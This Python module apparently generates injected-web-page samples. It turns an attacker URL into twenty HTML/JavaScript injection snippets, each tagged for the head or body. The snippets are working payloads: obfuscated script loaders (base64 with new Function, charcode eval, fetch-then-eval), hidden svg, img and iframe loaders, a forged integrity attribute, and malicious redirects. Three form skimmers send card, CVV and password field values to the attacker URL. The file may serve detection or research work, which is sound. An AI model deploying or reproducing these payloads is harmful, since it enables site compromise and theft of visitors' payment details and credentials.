"""Edition 2's injection styles of the `script` family: each turns an attacker URL into a snippet and
says where it goes (``head``, ``body-start`` or ``body-end``). None of them is an edition 1 style."""

from __future__ import annotations

import base64
import json
import random
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import quote


@dataclass(frozen=True)
class Snippet:
    html: str
    where: str


def _loader_js(url: str, var: str = "z") -> str:
    return f"var {var}=document.createElement('script');{var}.src='{url}';document.head.appendChild({var});"


def _module_src(url: str, rng: random.Random) -> Snippet:
    return Snippet(f'<script type="module" src="{url}"></script>', rng.choice(("head", "body-end")))


def _dynamic_import(url: str, rng: random.Random) -> Snippet:
    code = f"import('{url}').catch(function(){{}});"
    return Snippet(f'<script type="module">{code}</script>', rng.choice(("head", "body-end")))


def _function_atob(url: str, rng: random.Random) -> Snippet:
    b64 = base64.b64encode(_loader_js(url, "q").encode()).decode()
    return Snippet(f"<script>new Function(atob('{b64}'))();</script>", "body-end")


def _timeout_string(url: str, rng: random.Random) -> Snippet:
    delay = rng.choice((800, 1500, 3000))
    code = _loader_js(url, "t").replace("'", "\\'")
    return Snippet(f"<script>setTimeout('{code}',{delay});</script>", "body-end")


def _eval_charcodes(url: str, rng: random.Random) -> Snippet:
    codes = ",".join(str(ord(c)) for c in _loader_js(url, "e"))
    return Snippet(f"<script>eval(String.fromCharCode({codes}));</script>", rng.choice(("head", "body-end")))


def _fetch_eval(url: str, rng: random.Random) -> Snippet:
    code = f"fetch('{url}').then(function(r){{return r.text()}}).then(function(s){{(0,eval)(s)}});"
    return Snippet(f"<script>{code}</script>", "body-end")


def _preload_onload(url: str, rng: random.Random) -> Snippet:
    handler = "var s=document.createElement('script');s.src=this.href;document.head.appendChild(s)"
    return Snippet(f'<link rel="preload" as="script" href="{url}" onload="{handler}">', "head")


def _svg_onload(url: str, rng: random.Random) -> Snippet:
    handler = _loader_js(url, "g")
    return Snippet(
        f'<svg width="0" height="0" style="position:absolute" onload="{handler}"></svg>', "body-start"
    )


def _img_onerror(url: str, rng: random.Random) -> Snippet:
    handler = _loader_js(url, "i")
    return Snippet(
        f'<img src="data:," alt="" width="1" height="1" onerror="{handler}">',
        rng.choice(("body-start", "body-end")),
    )


def _object_data(url: str, rng: random.Random) -> Snippet:
    return Snippet(
        f'<object data="{url}" type="text/html" width="1" height="1" style="opacity:0"></object>', "body-end"
    )


def _service_worker(url: str, rng: random.Random) -> Snippet:
    code = (
        "if('serviceWorker' in navigator){navigator.serviceWorker.register("
        f"'/sw.js?import='+encodeURIComponent('{url}'),{{scope:'/'}});}}"
    )
    return Snippet(f"<script>{code}</script>", "body-end")


def _beacon_fields(url: str, rng: random.Random) -> Snippet:
    code = (
        "document.addEventListener('change',function(e){var t=e.target;"
        "if(t&&/card|cc|cvv|exp|pass/i.test(t.name||t.id)){"
        f"navigator.sendBeacon('{url}',"
        "new Blob([JSON.stringify({k:t.name||t.id,v:t.value,h:location.host})]));}},true);"
    )
    return Snippet(f"<script>{code}</script>", "body-end")


def _fetch_keepalive(url: str, rng: random.Random) -> Snippet:
    code = (
        "window.addEventListener('beforeunload',function(){var o={};"
        "document.querySelectorAll('input').forEach(function(i){if(i.value)o[i.name||i.id]=i.value;});"
        f"fetch('{url}',{{method:'POST',mode:'no-cors',keepalive:true,body:JSON.stringify(o)}});}});"
    )
    return Snippet(f"<script>{code}</script>", "body-end")


def _websocket(url: str, rng: random.Random) -> Snippet:
    ws = "wss://" + url.split("://", 1)[1]
    code = (
        f"var k=new WebSocket('{ws}');document.addEventListener('keyup',function(e){{"
        "if(k.readyState===1&&e.target.form)k.send(e.target.name+'='+e.target.value);});"
    )
    return Snippet(f"<script>{code}</script>", "body-end")


def _mobile_redirect(url: str, rng: random.Random) -> Snippet:
    code = f"if(/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent)){{location.replace('{url}');}}"
    return Snippet(f"<script>{code}</script>", rng.choice(("head", "body-start")))


def _first_visit_redirect(url: str, rng: random.Random) -> Snippet:
    code = (
        "if(document.cookie.indexOf('_vq=')<0){document.cookie='_vq=1;path=/;max-age=86400';"
        f"window.top.location.href='{url}';}}"
    )
    return Snippet(f"<script>{code}</script>", "head")


def _jquery_getscript(url: str, rng: random.Random) -> Snippet:
    code = f"window.addEventListener('load',function(){{window.jQuery?jQuery.getScript('{url}'):0;}});"
    return Snippet(f"<script>{code}</script>", "body-end")


def _integrity_cloak(url: str, rng: random.Random) -> Snippet:
    digest = base64.b64encode(rng.randbytes(48)).decode()
    return Snippet(
        f'<script src="{url}" integrity="sha384-{digest}" crossorigin="anonymous" '
        'referrerpolicy="no-referrer"></script>',
        "head",
    )


def _srcdoc_script(url: str, rng: random.Random) -> Snippet:
    inner = f'<script src="{url}"></script>'.replace('"', "&quot;")
    return Snippet(
        f'<iframe srcdoc="{inner}" style="display:none" sandbox="allow-scripts"></iframe>', "body-end"
    )


def _json_config_loader(url: str, rng: random.Random) -> Snippet:
    config = json.dumps({"cdn": quote(url, safe=":/?=&.-_")})
    code = (
        f'<script type="application/json" id="cfg-x">{config}</script>'
        "<script>var c=JSON.parse(document.getElementById('cfg-x').textContent);"
        "var n=document.createElement('script');n.src=decodeURIComponent(c.cdn);"
        "document.body.appendChild(n);</script>"
    )
    return Snippet(code, "body-end")


STYLES: dict[str, Callable[[str, random.Random], Snippet]] = {
    "module-src": _module_src,
    "dynamic-import": _dynamic_import,
    "function-atob": _function_atob,
    "settimeout-string": _timeout_string,
    "eval-charcodes": _eval_charcodes,
    "fetch-eval": _fetch_eval,
    "preload-onload": _preload_onload,
    "svg-onload": _svg_onload,
    "img-onerror": _img_onerror,
    "object-data": _object_data,
    "service-worker": _service_worker,
    "skimmer-beacon-fields": _beacon_fields,
    "skimmer-fetch-keepalive": _fetch_keepalive,
    "skimmer-websocket": _websocket,
    "redirect-mobile": _mobile_redirect,
    "redirect-first-visit": _first_visit_redirect,
    "jquery-getscript": _jquery_getscript,
    "integrity-cloak": _integrity_cloak,
    "iframe-srcdoc-script": _srcdoc_script,
    "json-config-loader": _json_config_loader,
}

# What each style points at: a script, a page to show or send to, or a collector.
TARGET = {name: "script" for name in STYLES} | {
    "object-data": "page",
    "redirect-mobile": "page",
    "redirect-first-visit": "page",
    "skimmer-beacon-fields": "collect",
    "skimmer-fetch-keepalive": "collect",
    "skimmer-websocket": "collect",
}
